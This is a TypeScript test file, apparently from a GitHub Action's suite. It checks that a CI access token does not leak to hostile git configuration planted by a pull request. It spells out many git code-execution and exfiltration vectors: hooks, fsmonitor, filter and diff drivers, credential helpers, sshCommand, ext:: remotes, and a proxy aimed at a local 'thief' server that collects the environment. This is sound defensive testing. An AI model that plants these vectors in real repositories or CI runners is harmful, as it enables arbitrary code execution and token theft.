import { execFile, execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { createBranchStore } from '../../../src/adapters/git/branch/branch-store.ts';
import { createRevisions } from '../../../src/adapters/git/checkout/revisions.ts';
import { createChangedFiles } from '../../../src/adapters/git/history/changed-files.ts';
import { createSourceControl } from '../../../src/adapters/git/history/source-control.ts';
import { QUERY, runNumber } from '../../contracts/baseline-store.ts';
import { sampleHistory } from '../../contracts/samples.ts';
import { type GitServer, startGitServer } from '../../support/git-server.ts';

const TOKEN = 'ghs_0123456789abcdef';
const BASIC = Buffer.from(`x-access-token:${TOKEN}`).toString('base64');
const log = { write() {}, group: <T>(_: string, body: () => Promise<T>) => body() };
/** Hundreds of processes. */
const BUSY = { timeout: 120_000 };
const clock = { now: () => Date.UTC(2026, 10, 1), sleep: async () => {} };

let root: string;
let directory: string;
let server: GitServer;
let base: string;
/** A server of the attacker's, and what it was sent. */
let thief: Server;
let stolen: string[];

function git(where: string, ...args: readonly string[]): string {
  const identity = ['-c', 'user.name=t', '-c', 'user.email=t@example.com'];
  return execFileSync('git', [...identity, ...args], { cwd: where, encoding: 'utf8', stdio: 'pipe' }).trim();
}

beforeEach(async () => {
  root = mkdtempSync(path.join(os.tmpdir(), 'planted-'));
  for (const name of ['home', 'temp', 'loot']) mkdirSync(path.join(root, name));
  const origin = path.join(root, 'shop');
  execFileSync('git', ['init', '-q', '-b', 'main', origin]);
  for (const name of ['uploadpack.allowAnySHA1InWant', 'uploadpack.allowFilter', 'http.receivepack'])
    git(origin, 'config', name, 'true');
  const commit = (name: string) => {
    writeFileSync(path.join(origin, name), name);
    git(origin, 'add', '-A');
    git(origin, 'commit', '-q', '-m', name);
    return git(origin, 'rev-parse', 'HEAD');
  };
  commit('first');
  git(origin, 'tag', 'v1.0.0');
  base = commit('base');
  git(origin, 'checkout', '-q', '-b', 'change');
  commit('work');
  server = await startGitServer(root, TOKEN);
  directory = path.join(root, 'checkout');
  const header = `http.extraheader=AUTHORIZATION: basic ${BASIC}`;
  const clone = ['clone', '-q', '--depth=1', '--branch=change', `${server.url}/shop`, directory];
  await promisify(execFile)('git', ['-c', header, ...clone]);
  stolen = [];
  thief = createServer((request, response) => {
    stolen.push(JSON.stringify(request.headers));
    response.writeHead(404).end();
  });
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
});

afterEach(async () => {
  thief.closeAllConnections();
  await Promise.all([server.close(), new Promise((resolve) => thief.close(resolve))]);
  rmSync(root, { recursive: true, force: true });
});

const thiefUrl = () => `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;

/** A program that notes its environment, and what it was given to read, where the attacker finds it. */
function program(name: string): string {
  const file = path.join(root, `${name}.sh`);
  writeFileSync(file, `#!/bin/sh\n{ env; cat </dev/null; } > "${root}/loot/${name}-$$"\nexit 0\n`);
  chmodSync(file, 0o755);
  return file;
}

const set = (...args: readonly string[]) => git(directory, 'config', ...args);

function plantHooks(): string {
  const hooks = path.join(root, 'hooks');
  mkdirSync(hooks, { recursive: true });
  for (const name of ['reference-transaction', 'post-checkout', 'pre-push', 'post-index-change'])
    writeFileSync(path.join(hooks, name), readFileSync(program(`hook-${name}`)), { mode: 0o755 });
  return hooks;
}

const setForUser = (...args: readonly string[]) =>
  git(directory, 'config', '--file', path.join(root, 'home', '.gitconfig'), ...args);

function plantPrograms(): void {
  const from = plantHooks();
  for (const name of readdirSync(from)) {
    const target = path.join(directory, '.git', 'hooks', name);
    writeFileSync(target, readFileSync(path.join(from, name)));
    chmodSync(target, 0o755);
  }
  set('core.fsmonitor', program('fsmonitor'));
  for (const key of ['smudge', 'clean', 'process']) set(`filter.planted.${key}`, program(`filter-${key}`));
  for (const key of ['textconv', 'command']) set(`diff.planted.${key}`, program(key));
  set('diff.external', program('external'));
  set('remote.origin.uploadpack', program('uploadpack'));
  set('uploadpack.packObjectsHook', program('pack-objects'));
  set('core.alternateRefsCommand', program('alternates'));
  const attributes = '* filter=planted diff=planted\n';
  writeFileSync(path.join(directory, '.git', 'info', 'attributes'), attributes);
  writeFileSync(path.join(directory, '.gitattributes'), attributes);
}

/** What the application of head leaves behind while it runs, for git to find afterwards. */
const PLANTED: readonly (readonly [string, () => void])[] = [
  ['programs that git runs by itself', plantPrograms],
  ['a folder of hooks', () => set('core.hooksPath', plantHooks())],
  [
    'a remote that is a command, in a file that is included',
    () => {
      const file = path.join(root, 'included');
      git(directory, 'config', '--file', file, 'core.hooksPath', plantHooks());
      git(directory, 'config', '--file', file, 'remote.origin.url', `ext::sh ${program('ext')}`);
      set('include.path', file);
    },
  ],
  [
    'a proxy and a helper for passwords',
    () => {
      set('http.proxy', thiefUrl());
      set('credential.helper', program('credential'));
      set(`http.${server.url}/.extraheader`, '');
    },
  ],
  [
    'another address of the server, and programs that reach it',
    () => {
      for (const [key, address] of [
        ['core.sshCommand', 'ssh://git@127.0.0.1/'],
        ['core.gitProxy', 'git://127.0.0.1/'],
      ] as const) {
        set(key, program(key));
        set(`url.${address}.insteadOf`, `${server.url}/`);
      }
    },
  ],
  [
    'a proxy and hooks for the whole user',
    () => {
      setForUser('http.proxy', thiefUrl());
      setForUser('core.hooksPath', plantHooks());
    },
  ],
];

test.each(PLANTED)('the token reaches nothing that head left: %s', BUSY, async (_, plant) => {
  const job = {
    ...{ 'INPUT_GITHUB-TOKEN': TOKEN, ACTIONS_RUNTIME_TOKEN: TOKEN, GITHUB_TOKEN: TOKEN, OWN_TOKEN: TOKEN },
    ...{ GITHUB_SERVER_URL: server.url, HOME: path.join(root, 'home'), RUNNER_TEMP: path.join(root, 'temp') },
  };
  const env = { ...process.env, ...job };
  const control = createSourceControl({ log, env, token: TOKEN });
  const revisions = createRevisions({ env, token: TOKEN, root: path.join(root, 'temp') });
  const changed = createChangedFiles({ env, token: TOKEN });
  const of = { branch: 'baselines', directory, env, token: TOKEN, clock, random: Math.random };
  const store = createBranchStore(of);
  const ask = { baseBranch: 'main', before: null, directory };
  const found = await control.base({ ...ask, event: 'pull_request' });
  expect(found).toMatchObject({ sha: base });
  await store.read(QUERY);
  await changed.since(base, directory);
  await revisions.resolve('HEAD', directory);
  plant();
  const work = [
    () => control.ancestors(base, 10, directory),
    () => control.base({ ...ask, event: 'push' }),
    () => control.tagged('v1.0.0', directory),
    () => changed.since(base, directory),
    async () => (await revisions.checkout(base, directory, false)).remove(),
    () => store.read(QUERY),
    () => store.save(runNumber(1), sampleHistory(runNumber(1))),
  ];
  const failed: unknown[] = [];
  for (const step of work) await step().catch((thrown: unknown) => failed.push(thrown));
  const loot = readdirSync(path.join(root, 'loot')).map((name) =>
    readFileSync(path.join(root, 'loot', name), 'utf8'),
  );
  for (const text of [...loot, ...stolen]) {
    expect(text).not.toContain(TOKEN);
    expect(text).not.toContain(BASIC);
  }
  expect(failed).toEqual([]);
  expect(await control.ancestors(base, 10, directory)).toHaveLength(2);
});
